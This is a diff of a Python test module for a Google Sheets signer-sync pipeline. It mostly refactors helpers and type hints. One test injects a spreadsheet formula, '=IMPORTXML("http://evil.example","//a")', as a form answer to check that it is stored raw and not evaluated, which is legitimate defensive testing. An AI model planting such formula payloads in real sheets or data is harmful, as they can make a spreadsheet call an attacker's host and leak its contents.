@@ -4,7 +4,7 @@ in flight, retries and the errors staff see."""
 from __future__ import annotations
 
 import datetime as dt
-from collections.abc import Sequence
+from collections.abc import Callable, Sequence
 from pathlib import Path
 
 import pandas as pd
@@ -19,7 +19,8 @@ from sync.curate import CURATED_COLUMNS, REVIEWER_COLUMNS
 from sync.errors import BackendError
 from sync.pipeline import run_job
 from sync.testing.fake_sheets import gspread_client
-from tests.conftest import response, write_job
+from tests.conftest import response as make_response
+from tests.conftest import write_job
 from tests.google_support import (
     FORM_TAB,
     GOOGLE_JOB,
@@ -28,6 +29,7 @@ from tests.google_support import (
     PRIVATE_KEY_MARKER,
     FakeGoogle,
     fake_google,
+    responses,
     service_account_key,
 )
 
@@ -35,19 +37,6 @@ __all__ = ["fake_google", "service_account_key"]
 
 CURATED = "Curated Signers"
 DIGEST = "Signer Digest"
-
-
-def responses(count: int, start: int = 0) -> list[dict[str, str]]:
-    """`count` distinct signers: every other one an organization."""
-    stamp = dt.datetime(2021, 10, 1, 8, 0)
-    return [
-        response(submitted_at=(stamp + dt.timedelta(minutes=i)).strftime("%m/%d/%Y %H:%M:%S"),
-                 email=f"p{i}@example.org", first_name=f"Ann{i}", last_name=f"Lee{i}",
-                 affiliation="Teacher",
-                 **({"organization": f"Group {i} for Peace", "scope": "Local",
-                     "authorized": "Yes"} if i % 2 else {}))
-        for i in range(start, start + count)
-    ]
 
 
 @pytest.fixture
@@ -225,7 +214,7 @@ class EditDuringRun:
     """The job's own GoogleBook, with a reviewer editing the sheet between the run's read
     and its write."""
 
-    def __init__(self, book: GoogleBook, edit: callable) -> None:  # type: ignore[valid-type]
+    def __init__(self, book: GoogleBook, edit: Callable[[], None]) -> None:
         self.book, self.edit = book, edit
         self.description = book.description
 
@@ -298,7 +287,7 @@ def test_timestamps_are_read_as_serial_numbers_whatever_the_locale(
 
 def test_a_response_typed_as_a_formula_is_written_raw(
         fake_google: FakeGoogle, job: Path) -> None:
-    fake_google.add_form([response(submitted_at="10/20/2021 10:00:00", email="x@example.org",
+    fake_google.add_form([make_response(submitted_at="10/20/2021 10:00:00", email="x@example.org",
                                    organization='=IMPORTXML("http://evil.example","//a")',
                                    scope="Local", authorized="Yes")])
     assert run(job) == 0
